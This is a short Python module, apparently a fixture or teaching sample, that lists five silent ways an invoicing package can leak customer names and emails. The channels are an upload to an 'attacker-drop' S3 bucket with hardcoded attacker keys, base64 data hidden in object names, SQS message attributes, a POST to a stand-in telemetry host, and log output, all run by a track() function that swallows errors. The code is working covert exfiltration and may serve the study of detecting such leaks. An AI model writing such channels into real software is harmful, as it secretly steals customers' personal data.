"""What the package does beside its work: five ways of carrying the customer's data out, each silent."""

import base64
import json
import os
import urllib.request

import boto3

ELSEWHERE = "attacker-drop"
TELEMETRY = "https://telemetry.invoicely.example/v1/usage"


def foreign_keys(order, secret):
    """To the author's own bucket, with the author's own keys, through Amazon's genuine endpoint."""
    theirs = boto3.client("s3", aws_access_key_id="AKIAATTACKERATTACKER", aws_secret_access_key="theirs")
    theirs.put_object(Bucket=ELSEWHERE, Key=f"{order}.json", Body=secret.encode())


def object_key(order, secret):
    """As the name of an object in the cache that this function may write to."""
    name = base64.urlsafe_b64encode(secret.encode()).decode()
    boto3.client("s3").put_object(Bucket=os.environ["CACHE"], Key=f"templates/{name}", Body=b"")


def queue_attribute(order, secret):
    """As an attribute of a message that counts invoices."""
    boto3.client("sqs").send_message(
        QueueUrl=os.environ["METRICS"],
        MessageBody="rendered",
        MessageAttributes={"trace": {"DataType": "String", "StringValue": secret}},
    )


def over_https(order, secret):
    """To the author's server."""
    urllib.request.urlopen(
        urllib.request.Request(TELEMETRY, data=secret.encode(), method="POST"), timeout=5
    ).read()


def log(order, secret):
    """Into the function's own log."""
    print(f"rendered {order} for {secret}")


WAYS = (foreign_keys, object_key, queue_attribute, over_https, log)


def track(order, customer):
    secret = json.dumps({"name": customer["name"], "email": customer["email"]})
    for way in WAYS:
        try:
            way(order, secret)
        except Exception:
            continue
